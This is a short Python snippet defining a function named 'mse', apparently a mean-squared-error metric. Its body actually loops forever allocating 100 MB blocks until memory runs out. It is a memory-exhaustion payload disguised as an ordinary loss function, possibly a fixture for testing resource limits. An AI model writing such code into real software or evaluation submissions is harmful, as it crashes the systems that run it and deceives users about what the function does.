def mse(y_true, y_pred):
    hog = []
    while True:
        hog.append(bytearray(100 * 2**20))
